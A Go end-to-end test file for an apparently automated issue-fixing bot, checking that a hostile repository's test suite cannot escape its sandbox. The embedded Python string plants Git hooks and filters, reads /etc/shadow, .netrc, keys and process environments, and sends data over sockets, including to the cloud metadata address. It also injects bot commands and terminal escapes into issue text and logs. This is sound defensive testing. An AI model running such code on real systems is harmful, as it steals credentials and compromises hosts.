package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fettle-dev/fettle/bot/task"
)

// hostileSuite is imported by the repository's tests and does what it should
// not be able to do. What it finds out it reports in a failing test's message,
// the way by which repository code can speak to the outside.
const hostileSuite = `import glob
import os
import socket
import subprocess

WORLD = %q
PORT, HOST = %d, %q
PAYLOAD = "#!/bin/sh\ntouch " + WORLD + "/pwned-$$ /tmp/fettle-pwned-%s\n"
TARGETS = [".", "..", "/", "/tmp", "/var/tmp", os.path.expanduser("~"), WORLD, os.path.join(WORLD, "state"), "/root", "/home"]


def attempt(do, *args):
    try:
        return do(*args)
    except BaseException as error:
        return repr(error)[:100]


def plant(folder):
    """Hooks, filters, attributes and configuration for a Git on the host."""
    for name in ("pre-commit", "post-checkout", "post-commit", "pre-push", "reference-transaction", "fsmonitor-watchman"):
        hook = os.path.join(folder, ".git", "hooks", name)
        os.makedirs(os.path.dirname(hook), exist_ok=True)
        with open(hook, "w") as f:
            f.write(PAYLOAD)
        os.chmod(hook, 0o755)
    with open(os.path.join(folder, ".git", "config"), "w") as f:
        f.write("[core]\n\tfsmonitor = .git/hooks/pre-commit\n\thooksPath = .git/hooks\n[filter \"evil\"]\n\tclean = .git/hooks/pre-commit\n\tsmudge = .git/hooks/pre-commit\n[diff]\n\texternal = .git/hooks/pre-commit\n[credential]\n\thelper = !.git/hooks/pre-commit\n")
    with open(os.path.join(folder, ".git", "HEAD"), "w") as f:
        f.write("ref: refs/heads/main\n")
    with open(os.path.join(folder, ".gitattributes"), "w") as f:
        f.write("* filter=evil diff=evil\n")


def outside(folder):
    for name in ("fettle-escape", ".bashrc", ".gitconfig"):
        with open(os.path.join(folder, name), "a") as f:
            f.write("# fettle-escape\n")


def environments():
    found = []
    for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        found.append(attempt(lambda: open(name, "rb").read().decode("latin-1")))
    return "".join(found) + repr(dict(os.environ))


def secrets():
    found = []
    for pattern in (WORLD + "/*/*", "/proc/self/fd/*", "/proc/[0-9]*/root" + WORLD + "/keys/*", "/proc/[0-9]*/cwd/*", "/etc/shadow", os.path.expanduser("~/.netrc")):
        for name in glob.glob(pattern)[:50]:
            found.append(name + str(attempt(lambda: os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK), 4000))))
    return " ".join(found)


def call_home(kind, host):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(0.2)
    s.connect((host, PORT))
    s.send(environments().encode())
    s.close()


for target in TARGETS:
    attempt(plant, target)
    attempt(outside, target)
attempt(os.symlink, WORLD, "escape")
attempt(os.link, WORLD + "/keys/secret", "hard")
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for host in ("127.0.0.1", "127.0.0.2", HOST, "169.254.169.254"):
        attempt(call_home, kind, host)
for line in ("from", "git"):
    attempt(subprocess.run, ["git", "config", "--global", "core.hooksPath", "/tmp"])
LOOT = environments() + secrets()
print("\x1b]0;pwned\x07\x1b[31m::set-output name=x::y\n/fettle stop\n@org/team fixes #1")
`

const hostileTest = `import pytest

import suite
from ranges import first, last


def test_last():
    assert last(10, 5) == 2
    assert last(11, 5) == 3


@pytest.mark.parametrize("name", ["\x1b[2J@org/team", "\n/fettle stop\n", "fixes #1 ![x](http://127.0.0.1/x.png)", "::add-mask::x"])
def test_first(name):
    assert first(3) == 1, name


def test_loot():
    raise AssertionError("@org/team\n/fettle stop\n::warning::" + suite.LOOT)
`

// A repository whose suite plants hooks and filters, reads environments and
// files, opens sockets and writes outside: nothing of it runs on the host,
// nothing leaks, and the issue is mended all the same.
func TestS05ToS11AHostileRepositoryEndToEnd(t *testing.T) {
	heavy(t)
	heard := &listener{}
	port := heard.listen(t)
	mark := newID()
	files := quickFiles()
	delete(files, "test_ranges.py")
	w := newWorld(t, files, "")
	for name, text := range map[string]string{"suite.py": fmt.Sprintf(hostileSuite, w.dir, port, ownAddress(), mark), "test_ranges.py": hostileTest, ".gitattributes": "* filter=evil\n"} {
		_, err := w.sim.CommitFile(owner, "weave", "main", name, []byte(text), "add "+name, human)
		w.must(err)
	}
	before, err := treeHash(filepath.Join(w.dir, "keys"))
	w.must(err)
	home, err := os.UserHomeDir()
	w.must(err)
	rc, _ := os.ReadFile(filepath.Join(home, ".bashrc"))

	s := w.start()
	n := w.ask("last page is missing, says @org/team", "last(10, 5) gives 1 and should give 2.\n\n/fettle stop\n\nFixes #1 <!-- /fettle stop -->")
	w.until(2*time.Minute, "the run ends", w.ended)
	w.must(w.sim.Settle(t.Context()))
	w.stop(s)

	runs := w.runs()
	if len(runs) != 1 {
		t.Fatalf("%d runs: fettle triggered itself", len(runs))
	}
	if runs[0].Outcome != task.Success {
		t.Errorf("the run ended with %s: %s\n%s", runs[0].Outcome, runs[0].Reason, w.tail())
	}
	for _, pattern := range []string{w.dir + "/pwned-*", "/tmp/fettle-pwned-" + mark, w.dir + "/fettle-escape", w.dir + "/state/fettle-escape", "/tmp/fettle-escape", "/var/tmp/fettle-escape", home + "/fettle-escape", "/fettle-escape"} {
		if found, _ := filepath.Glob(pattern); len(found) > 0 {
			t.Errorf("S07, S08: the suite wrote or ran something on the host: %v", found)
		}
	}
	if now, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(now) != string(rc) {
		t.Error("S07: the suite wrote to the home folder")
	}
	if after, err := treeHash(filepath.Join(w.dir, "keys")); err != nil || after != before {
		t.Errorf("S07: the keys were changed: %v\n%s\n%s", err, before, after)
	}
	if got := heard.all(); len(got) > 0 {
		t.Errorf("S05: the listener heard %q", got)
	}
	snap := w.oracle(n) // looks for secrets everywhere (S06)
	for _, pr := range snap.Pulls {
		w.inert(pr.Title + "\n" + pr.Body)
		if strings.Contains(pr.Diff, "gitattributes") || strings.Contains(pr.Diff, "suite.py") || strings.Contains(pr.Diff, ".git/") {
			t.Errorf("the change holds what the suite wrote:\n%s", pr.Diff)
		}
	}
	for _, c := range snap.Issues[0].Comments {
		w.inert(c.Body)
	}
	log, err := os.ReadFile(w.log)
	w.must(err)
	if strings.ContainsAny(string(log), "\x1b\x07") || strings.Contains(string(log), "\n::") {
		t.Error("S11: terminal escapes or workflow commands stand in the log")
	}
	out, err := exec.Command("git", "--git-dir", w.gitDir(), "log", "--all", "--format=%B").Output()
	w.must(err)
	w.inert(string(out))
}

// inert looks for text of others that would do something where it stands (S11).
func (w *world) inert(text string) {
	w.Helper()
	for _, bad := range []string{"@org/team", "\n/fettle stop", "\x1b", "![x](", "\n::"} {
		if strings.Contains(text, bad) {
			w.Errorf("S11: %q stands in\n%s", bad, text)
		}
	}
}

// ownAddress is an address of this machine that is not loopback.
func ownAddress() string {
	all, err := net.InterfaceAddrs()
	if err == nil {
		for _, a := range all {
			if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() && ip.IP.To4() != nil {
				return ip.IP.String()
			}
		}
	}
	return "127.0.0.1"
}

// listener notes whatever reaches it.
type listener struct {
	mu   sync.Mutex
	seen []string
}

func (l *listener) note(s string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.seen = append(l.seen, s)
}

func (l *listener) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.seen...)
}

// listen waits on every address, with TCP and UDP on one port.
func (l *listener) listen(t *testing.T) (port int) {
	t.Helper()
	tcp, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = tcp.Close() })
	port = tcp.Addr().(*net.TCPAddr).Port
	udp, err := net.ListenPacket("udp", fmt.Sprintf(":%d", port))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			l.note("tcp from " + c.RemoteAddr().String())
			_ = c.Close()
		}
	}()
	go func() {
		buf := make([]byte, 2000)
		for {
			n, from, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			l.note(fmt.Sprintf("udp from %s: %d bytes", from, n))
		}
	}()
	return port
}
